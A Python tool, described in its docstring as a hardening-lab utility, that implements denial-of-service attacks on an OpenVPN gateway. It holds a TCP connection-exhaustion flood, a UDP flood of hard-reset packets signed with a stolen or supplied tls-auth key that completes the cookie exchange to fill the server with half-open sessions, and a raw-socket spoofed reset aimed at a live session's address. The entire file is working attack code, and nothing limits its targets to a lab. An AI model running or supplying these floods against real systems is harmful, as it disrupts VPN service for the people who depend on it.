#!/usr/bin/env python3
"""Bounded floods for the hardening lab (lab addresses only).

flood.py tcp HOST PORT COUNT SECONDS
    opens COUNT TCP connections and holds them idle for SECONDS; prints
    how many the gateway accepted and how many it closed.
flood.py spoof SRC_IP SRC_PORT DST_IP DST_PORT TA_KEY
    sends one hard reset with a valid tls-auth HMAC and the current time
    from SRC_IP:SRC_PORT (a raw socket: the address of a live session).
flood.py udp HOST PORT TA_KEY COUNT SECONDS
    sends COUNT OpenVPN client hard resets with a valid tls-auth HMAC from
    many source ports and answers each server reset with the cookie echo a
    real client sends, so every answered reset would become a half-open
    session; prints the counts.
"""
import hashlib
import hmac
import os
import resource
import selectors
import socket
import struct
import sys
import time

HARD_RESET_CLIENT_V2, HARD_RESET_SERVER_V2, ACK_V1 = 7, 8, 5


def tcp_flood(host, port, count, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 256), hard))
    socks, opened, closed = [], 0, 0
    deadline = time.monotonic() + seconds
    for _ in range(count):
        if time.monotonic() > deadline:
            break
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            continue
        socks.append(s)
    sel = selectors.DefaultSelector()
    for s in socks:
        sel.register(s, selectors.EVENT_READ)
    while time.monotonic() < deadline:
        for key, _ in sel.select(timeout=0.2):
            try:
                data = key.fileobj.recv(64)
            except OSError:
                data = b""
            if not data:
                closed += 1
                sel.unregister(key.fileobj)
        opened = len(socks)
    print(f"tcp: {opened} connections opened, {closed} closed by the gateway")
    for s in socks:
        s.close()


def ta_keys(path):
    text = open(path).read()
    hexs = "".join(l.strip() for l in text.split("-----BEGIN OpenVPN Static key V1-----")[1]
                   .split("-----END")[0].split())
    key = bytes.fromhex(hexs)
    return key[192:224], key[64:96]  # client sends with key[1], server with key[0]


def wrap(send_key, op, sid, pid, now, body):
    head = bytes([op << 3]) + struct.pack(">Q", sid)
    replay = struct.pack(">II", pid, now)
    mac = hmac.new(send_key, replay + head + body, hashlib.sha256).digest()
    return head + mac + replay + body


def udp_flood(host, port, ta_path, count, seconds):
    send_key, _ = ta_keys(ta_path)
    socks = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(128)]
    sel = selectors.DefaultSelector()
    for s in socks:
        s.setblocking(False)
        s.connect((host, port))
        sel.register(s, selectors.EVENT_READ)
    sent = answered = echoed = 0
    deadline = time.monotonic() + seconds
    now = int(time.time())
    while sent < count and time.monotonic() < deadline:
        s = socks[sent % len(socks)]
        sid = int.from_bytes(os.urandom(8), "big")
        body = b"\x00" + struct.pack(">I", 0)  # no acks, msg-id 0
        try:
            s.send(wrap(send_key, HARD_RESET_CLIENT_V2, sid, 1, now, body))
        except BlockingIOError:
            pass
        sent += 1
        for key, _ in sel.select(timeout=0):
            try:
                pkt = key.fileobj.recv(2048)
            except OSError:
                continue
            if len(pkt) < 9 + 32 + 8 + 1 or pkt[0] >> 3 != HARD_RESET_SERVER_V2:
                continue
            answered += 1
            server_sid = pkt[1:9]
            body = pkt[9 + 40:]
            # The server acked our msg 0 naming our sid: echo its cookie.
            n_acks = body[0]
            our_sid = body[1 + 4 * n_acks:9 + 4 * n_acks]
            ack = b"\x01" + struct.pack(">I", 0) + server_sid
            try:
                key.fileobj.send(wrap(send_key, ACK_V1, int.from_bytes(our_sid, "big"), 2, now, ack))
                echoed += 1
            except OSError:
                pass
    print(f"udp: {sent} resets sent, {answered} answered, {echoed} cookies echoed")


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def spoof(src, sport, dst, dport, ta_path):
    send_key, _ = ta_keys(ta_path)
    sid = int.from_bytes(os.urandom(8), "big")
    payload = wrap(send_key, HARD_RESET_CLIENT_V2, sid, 1, int(time.time()) + 5,
                   b"\x00" + struct.pack(">I", 0))
    s_ip, d_ip = socket.inet_aton(src), socket.inet_aton(dst)
    ulen = 8 + len(payload)
    pseudo = s_ip + d_ip + struct.pack("!BBH", 0, 17, ulen)
    udp = struct.pack("!HHHH", sport, dport, ulen, 0) + payload
    udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0, 0, 64, 17, 0, s_ip, d_ip)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    r.sendto(ip + udp, (dst, 0))
    print(f"spoof: one hard reset from {src}:{sport}")


def main():
    if sys.argv[1] == "spoof":
        spoof(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), sys.argv[6])
    elif sys.argv[1] == "tcp":
        tcp_flood(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]))
    else:
        udp_flood(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]),
                  float(sys.argv[6]))


main()
